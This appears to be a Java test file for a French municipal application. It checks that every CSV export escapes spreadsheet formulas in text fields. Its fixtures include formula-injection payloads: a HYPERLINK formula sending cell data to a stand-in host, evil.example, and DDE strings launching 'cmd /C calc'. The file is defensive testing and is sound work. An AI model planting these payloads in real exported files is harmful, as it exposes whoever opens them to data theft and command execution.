package io.github.clvss.core.csv;

import static io.github.clvss.core.Fixtures.CLOCK;
import static org.assertj.core.api.Assertions.assertThat;

import com.tngtech.archunit.core.domain.JavaClass;
import com.tngtech.archunit.core.domain.JavaClasses;
import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import io.github.clvss.core.DemoTerritory;
import io.github.clvss.core.Fixtures;
import io.github.clvss.core.Vss;
import io.github.clvss.core.access.Actor;
import io.github.clvss.core.access.PartnerId;
import io.github.clvss.core.access.TerritoryId;
import io.github.clvss.core.contract.Contract;
import io.github.clvss.core.deliberation.DeliberationId;
import io.github.clvss.core.deliberation.PrefectureTransmission;
import io.github.clvss.core.deliberation.SeedDeliberation;
import io.github.clvss.core.deliberation.Subject;
import io.github.clvss.core.indicator.Direction;
import io.github.clvss.core.indicator.Indicator;
import io.github.clvss.core.indicator.Measurement;
import io.github.clvss.core.indicator.Period;
import io.github.clvss.core.indicator.ValueKind;
import io.github.clvss.core.institution.Institution;
import io.github.clvss.core.institution.Sector;
import io.github.clvss.core.journal.JournalQuery;
import io.github.clvss.core.partner.Partner;
import io.github.clvss.core.partner.PublicContact;
import io.github.clvss.core.partner.Referent;
import io.github.clvss.core.partner.ReferentDetails;
import io.github.clvss.core.partner.ReferentQuery;
import io.github.clvss.core.resource.Audience;
import io.github.clvss.core.resource.Resource;
import io.github.clvss.core.resource.ResourceId;
import io.github.clvss.core.resource.ResourceKind;
import io.github.clvss.core.resource.ResourceScope;
import io.github.clvss.core.shared.EmailAddress;
import io.github.clvss.core.shared.Language;
import io.github.clvss.core.shared.PhoneNumber;
import io.github.clvss.core.shared.Provenance;
import io.github.clvss.core.shared.Verification;
import io.github.clvss.core.territory.Territory;
import io.github.clvss.core.territory.TerritoryFacts;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * Every CSV file vss writes, fed a formula in every text a person can type: no cell of any file
 * starts with a character a spreadsheet would run, except numbers and phone numbers in their
 * exact form, and every text column shows the formula it was fed, neutralised. The list of
 * exports is checked against the classes that write CSV, so a new export cannot be left out.
 */
class EveryCsvExportTest {

    /** Formulas a spreadsheet would run, one per formula character. */
    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1d1+1");

    private final DemoTerritory demo = DemoTerritory.load();
    private final Vss vss = demo.vss();
    private final TerritoryId boulogne = demo.territory();
    private final Contract contract = demo.contract();
    private final Actor system = Actor.system();
    private final Actor coordinator = Fixtures.coordinatorOf(boulogne);

    /** One export: its columns, how to make it, its separator. */
    private record Export(String name, List<CsvWriter.Column> columns, Supplier<String> file, char delimiter) {
    }

    @AfterEach
    void close() {
        vss.close();
    }

    private static String formula(int i) {
        return FORMULAS.get(i % FORMULAS.size());
    }

    private List<Export> exports() {
        return List.of(
                new Export("ReferentsCsv", ReferentsCsv.EXPORT_COLUMNS, this::referents, ';'),
                new Export("ResourcesCsv", ResourcesCsv.OPEN_DATA_COLUMNS, this::resources, ','),
                new Export("DeliberationsCsv", DeliberationsCsv.TYPED_COLUMNS, this::deliberations, ','),
                new Export("DiagnosticCsv", null, this::diagnostic, ';'),
                new Export("JournalCsv", JournalCsv.COLUMNS, this::journal, ';'));
    }

    @TestFactory
    Stream<DynamicTest> every_export_neutralises_a_formula_in_every_text_column() {
        return exports().stream().map(export -> DynamicTest.dynamicTest(export.name(), () -> {
            List<CSVRecord> records = parse(export.file().get(), export.delimiter());
            List<String> header = records.getFirst().toList();
            List<CsvWriter.Column> columns = export.columns() == null ? diagnosticColumns(header) : export.columns();
            assertThat(header).isEqualTo(columns.stream().map(CsvWriter.Column::name).toList());
            List<CSVRecord> rows = records.subList(1, records.size());
            assertThat(rows).as("lines of %s", export.name()).isNotEmpty();
            for (CSVRecord row : rows) {
                for (int c = 0; c < row.size(); c++) {
                    String cell = row.get(c);
                    if (!cell.isEmpty() && CsvWriter.startsFormula(cell.charAt(0))) {
                        assertThat(CsvWriter.isExactConstant(cell)).as("%s, column %s: %s", export.name(), header.get(c), cell)
                                .isTrue();
                        assertThat(columns.get(c).kind()).isIn(CsvWriter.Kind.NUMBER, CsvWriter.Kind.PHONE);
                    }
                }
            }
            for (int c = 0; c < columns.size(); c++) {
                if (columns.get(c).kind() == CsvWriter.Kind.TEXT) {
                    int column = c;
                    assertThat(rows).as("%s, text column %s fed a formula", export.name(), header.get(c))
                            .anySatisfy(row -> assertThat(row.get(column)).matches("'[=+\\-@\uff1d].*"));
                }
            }
        }));
    }

    @Test
    void the_exports_tested_here_are_every_class_that_writes_a_csv_file() {
        JavaClasses classes = new ClassFileImporter().withImportOption(ImportOption.Predefined.DO_NOT_INCLUDE_TESTS)
                .importPackages("io.github.clvss");
        Set<String> writers = classes.stream()
                .filter(c -> c.getMethodCallsFromSelf().stream()
                        .anyMatch(call -> call.getTargetOwner().isEquivalentTo(CsvWriter.class)
                                && Set.of("spreadsheet", "openData").contains(call.getName())))
                .map(JavaClass::getSimpleName).map(name -> name.replaceAll("\\$.*", ""))
                .collect(Collectors.toCollection(TreeSet::new));
        Set<String> printers = classes.stream()
                .filter(c -> c.getDirectDependenciesFromSelf().stream()
                        .anyMatch(d -> d.getTargetClass().getName().equals("org.apache.commons.csv.CSVPrinter")))
                .map(JavaClass::getSimpleName).collect(Collectors.toCollection(TreeSet::new));

        assertThat(writers).isEqualTo(exports().stream().map(Export::name).collect(Collectors.toCollection(TreeSet::new)));
        assertThat(printers).containsExactly("CsvWriter");
    }

    @Test
    void open_data_keeps_numbers_and_phone_numbers_exact_and_guards_only_text() throws IOException {
        String file = resources();

        List<String> header = ResourcesCsv.OPEN_DATA_COLUMNS.stream().map(CsvWriter.Column::name).toList();
        CSVRecord line = parse(file, ',').get(1);
        assertThat(line.get(header.indexOf("phone"))).isEqualTo("+33146090000");
        assertThat(line.get(header.indexOf("name"))).isEqualTo("'" + formula(0));
        assertThat(line.get(header.indexOf("description_fr"))).isEqualTo("'" + formula(1));
        assertThat(line.get(header.indexOf("free"))).isEqualTo("true");
    }

    private String referents() {
        Institution institution = vss.institutions().register(system, Institution.register(CLOCK, formula(0), Sector.ASSOCIATION,
                Optional.empty(), Optional.empty(), Provenance.ENTERED));
        PartnerId partner = vss.partners().add(system, Partner.join(CLOCK, "system", boulogne, contract.id(), institution.id(),
                "Écoute", List.of(), PublicContact.NONE, Optional.empty(), false, Provenance.ENTERED)).id();
        vss.referents().appoint(system, Referent.appoint(CLOCK, partner, boulogne, new ReferentDetails(formula(1), formula(2),
                Optional.of(phone()), Optional.of(new EmailAddress("=1+2@evil.example")), Optional.of(formula(3))),
                Optional.empty(), false, Provenance.ENTERED));
        StringWriter out = new StringWriter();
        vss.referentsCsv().export(coordinator, ReferentQuery.current(boulogne), out);
        return out.toString();
    }

    private String resources() {
        Territory territory = vss.territories().find(system, boulogne);
        Resource resource = new Resource(ResourceId.next(CLOCK), 0, ResourceScope.LOCAL, Optional.of(territory.facts().department()),
                Optional.of(boulogne), ResourceKind.LISTENING, formula(0), Map.of(Language.FR, formula(1), Language.EN, formula(2)),
                Optional.of(phone()), Optional.of(phone()), Optional.of("https://example.org/"), Optional.of(formula(3)),
                Optional.of(formula(4)), Optional.of(formula(0)), Optional.of(formula(1)), true, false, Set.of(Audience.VICTIMS),
                Verification.now(CLOCK, "system"), Provenance.ENTERED);
        StringWriter out = new StringWriter();
        ResourcesCsv.openData(List.of(resource), out);
        return out.toString();
    }

    private String deliberations() {
        Territory territory = vss.territories().find(system, boulogne);
        TerritoryFacts f = territory.facts();
        vss.territories().correct(system, boulogne, territory.version(), new TerritoryFacts(f.kind(), formula(0), f.inseeCode(),
                f.department(), f.siren(), f.siret(), f.population(), f.timeZone()));
        vss.deliberations().record(coordinator, SeedDeliberation.seed().toBuilder().id(DeliberationId.next(CLOCK))
                .object(formula(1)).subject(Optional.of(new Subject("=1+1", formula(3))))
                .transmission(PrefectureTransmission.NONE).build());
        return new String(vss.deliberationsCsv().export(coordinator, boulogne), StandardCharsets.UTF_8);
    }

    private String diagnostic() {
        Indicator whole = vss.indicators().define(coordinator, Indicator.define(CLOCK, boulogne, contract.id(), "1.2", formula(0),
                formula(1), ValueKind.COUNT, Direction.NEUTRAL, Optional.empty(), formula(2), Optional.empty(), Provenance.ENTERED));
        Indicator part = vss.indicators().define(coordinator, Indicator.define(CLOCK, boulogne, contract.id(), "1.2", formula(3),
                formula(4), ValueKind.COUNT, Direction.NEUTRAL, Optional.empty(), formula(0), Optional.of(whole.id()),
                Provenance.ENTERED));
        vss.indicators().recordAll(coordinator, List.of(
                new Measurement(whole.id(), Period.year(2022), BigDecimal.valueOf(40), Provenance.ENTERED),
                new Measurement(whole.id(), Period.year(2023), BigDecimal.valueOf(20), Provenance.ENTERED),
                new Measurement(part.id(), Period.year(2023), BigDecimal.valueOf(12), Provenance.ENTERED)));
        return new String(vss.diagnosticCsv().export(coordinator, contract.id(), 2023, Language.FR), StandardCharsets.UTF_8);
    }

    private String journal() {
        referents();
        StringWriter out = new StringWriter();
        vss.journalCsv().export(coordinator, JournalQuery.territory(boulogne), ZoneId.of("Europe/Paris"), out);
        return out.toString();
    }

    /** The diagnostic's columns depend on its years: the first four and the last three are named, years between. */
    private static List<CsvWriter.Column> diagnosticColumns(List<String> header) {
        return header.stream().map(name -> switch (name) {
            case "indicateur", "partie de", "unité", "source" -> new CsvWriter.Column(name, CsvWriter.Kind.TEXT);
            default -> new CsvWriter.Column(name, CsvWriter.Kind.CODE);
        }).toList();
    }

    private static PhoneNumber phone() {
        return PhoneNumber.parse("01 46 09 00 00", "phone").orElseThrow();
    }

    private static List<CSVRecord> parse(String text, char delimiter) throws IOException {
        String body = text.startsWith("\ufeff") ? text.substring(1) : text;
        return CSVFormat.RFC4180.builder().setDelimiter(delimiter).get().parse(new StringReader(body)).getRecords();
    }
}
